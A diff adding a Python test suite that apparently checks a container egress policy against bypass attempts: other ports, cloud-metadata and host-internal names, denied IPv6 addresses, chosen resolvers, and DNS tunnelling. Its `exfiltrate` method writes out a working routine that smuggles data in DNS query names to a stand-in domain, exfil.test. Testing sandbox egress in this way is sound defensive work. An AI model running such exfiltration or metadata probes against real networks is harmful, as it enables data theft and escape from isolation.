@@ -1,0 +1,119 @@
+"""Ways round the policy by port, address and name (NB, IP, DN and HC36 of the abuse list)."""
+
+import socket
+import struct
+import time
+import unittest
+
+from harness import Wire, World
+from netns import in_namespace
+
+NAMES = {"good.test": "203.0.113.10", "metadata.google.internal": "169.254.169.254", "svc.ns.cluster.local": "10.1.2.3",
+         "mapped.test": ["198.51.100.4", "2001:db8::1"], "host.docker.internal": "10.1.2.3"}
+ORIGIN = "203.0.113.10"
+EXFILTRATED_NAMES = 10_000
+
+
+def dns_query(name, number=1):
+    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+    return struct.pack("!HHHHHH", number & 0xffff, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)
+
+
+def response_code(answer):
+    return answer[3] & 15
+
+
+class WaysOutTest(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.world = World(NAMES)
+        cls.addClassCleanup(cls.world.close)
+        cls.world.api.call("ApplyClass", **{"class": {"name": "open"}})
+        cls.world.api.call("ApplyClass", **{"class": {"name": "closed", "enableInternet": False, "allowedHosts": {"hosts": ["good.test"]}}})
+        cls.open = cls.world.container("open", "open-1")
+        cls.closed = cls.world.container("closed", "closed-1")
+
+    def wire(self):
+        wire = Wire(self.world)
+        self.addCleanup(wire.close)
+        return wire
+
+    def test_NB10_other_ports_with_internet_off(self):
+        wire = self.wire()
+        for port in (22, 25, 53, 853, 8443):
+            for address in (ORIGIN, "2001:db8::1"):
+                # 53 is the agent's DNS, whatever the address; what is no query ends the connection.
+                with self.subTest((address, port)):
+                    try:
+                        self.assertIn(self.closed.raw(address, port, b"\xff\xffEHLO x\r\n", timeout=10), (None, b""))
+                    except ConnectionError:
+                        pass
+        self.assertEqual(wire.frames(), [])
+
+    def test_HC36_the_address_dialled_never_decides_where_a_name_goes(self):
+        for address in ("198.51.100.4", "10.1.2.3", "169.254.169.254"):
+            response = self.open.curl("http://good.test/hc36", address=address)
+            self.assertEqual(response.body, "origin good.test /hc36", response)
+            self.assertEqual(self.world.origin_requests()[-1]["local"], ORIGIN)
+
+    def test_IP12_names_of_the_host_and_its_network(self):
+        before = self.world.origin_contacts()
+        for name in ("localhost", "localhost.localdomain", "ip6-localhost", "host.docker.internal", "metadata.google.internal",
+                     "svc.ns.cluster.local", "a.localhost"):
+            with self.subTest(name):
+                response = self.open.curl(f"http://{name}/", address=ORIGIN)
+                self.assertIn((response.status, response.reason), ((520, "forbidden_address"), (502, "origin_unreachable")), response)
+        self.assertEqual(self.world.origin_contacts(), before)
+        # No search domain was tried: what was asked is the name itself.
+        for line in self.world.dns.text().splitlines():
+            if "localdomain" in line:
+                self.assertRegex(line, r"\blocalhost\.localdomain\b(?!\.)")
+
+    def test_IP19_a_denied_address_of_a_name_is_not_tried(self):
+        self.world.api.enforced("DenyHost", containerId="open-1", host="2001:db8::/32")
+        self.addCleanup(self.world.api.enforced, "RemoveDeniedHost", containerId="open-1", host="2001:db8::/32")
+        wire = self.wire()
+        for _ in range(5):
+            self.assertEqual(self.open.curl("http://mapped.test/", address=ORIGIN).status, 200)
+            self.assertEqual(self.world.origin_requests()[-1]["local"], "198.51.100.4")
+        ipv6 = [frame for frame in wire.frames() if frame[24:28] == "86dd"]
+        self.assertEqual(ipv6, [])
+
+    def test_DN01_a_resolver_of_the_containers_choice_is_not_reached(self):
+        wire = self.wire()
+        for server in ("9.9.9.9", "2001:db8::53"):
+            for name, expected in (("good.test", "NOERROR"), ("evil.test", "NXDOMAIN")):
+                answer = self.closed.run("dig", f"@{server}", "+time=6", "+tries=1", name).stdout
+                self.assertIn(f"status: {expected}", answer)
+        self.assertEqual(wire.frames(), [])
+
+    def test_DN04_names_that_carry_data_ask_nobody(self):
+        wire = self.wire()
+        in_namespace(f"/proc/{self.closed.holder.pid}/ns/net", self.exfiltrate)
+        self.assertEqual(wire.frames(), [])
+        self.assertNotIn("exfil.test", self.world.dns.text())
+
+    def exfiltrate(self):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
+            client.settimeout(10)
+            client.connect(("9.9.9.9", 53))
+            for number in range(EXFILTRATED_NAMES):
+                client.send(dns_query(f"{number:063d}.{number:032x}.exfil.test", number))
+                answer = client.recv(4096)
+                # NXDOMAIN, of this question.
+                self.assertEqual((answer[:2], response_code(answer)), (struct.pack("!H", number & 0xffff), 3))
+
+    def test_DN16_a_resolver_that_does_not_answer(self):
+        self.world.dns.suspend()
+        self.addCleanup(self.world.dns.resume)
+        begin = time.monotonic()
+        answer = self.open.run("dig", "@9.9.9.9", "+time=15", "+tries=1", "slow.test").stdout
+        self.assertIn("status: SERVFAIL", answer)
+        # The limit is 5 s; the rest is for a busy machine.
+        self.assertLess(time.monotonic() - begin, 10)
+        response = self.open.curl("http://slow.test/", address=ORIGIN)
+        self.assertIn((response.status, response.reason), ((502, "origin_unreachable"), (504, "origin_timeout")), response)
+
+
+if __name__ == "__main__":
+    unittest.main(verbosity=2)
